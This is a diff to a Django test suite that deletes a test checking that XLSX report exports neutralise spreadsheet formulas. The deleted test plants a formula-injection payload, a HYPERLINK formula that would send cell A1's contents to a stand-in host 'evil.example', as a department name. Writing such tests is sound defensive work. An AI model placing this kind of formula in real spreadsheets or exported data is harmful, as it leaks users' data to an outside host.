@@ -234,21 +234,6 @@ def test_html_in_free_text_is_escaped_on_pages_and_in_letters(client, department
     assert html.status_code == 200 and html["Content-Security-Policy"].startswith("sandbox")
 
 
-def test_report_xlsx_neutralises_formulas(client, county, zfb, office_head):
-    from openpyxl import load_workbook
-
-    zfb.name = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
-    zfb.save(update_fields=["name"])
-    client.force_login(office_head)
-    response = client.get("/ysq/staff/report/?year=2025&department=zfb&export=xlsx")
-    if response.status_code == 404:  # the office head's department is gkb: use a county-wide reader
-        pytest.skip("office head cannot read zfb")
-    assert response.status_code == 200
-    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
-    title = sheet.cell(row=1, column=1)
-    assert title.data_type == "s" and title.value.startswith("\'=HYPERLINK")
-
-
 # --- protocol -------------------------------------------------------------------------------------------------
 
 def test_wrong_methods_and_missing_csrf_are_chinese_4xx(api_client, departments, zfb, clerk):
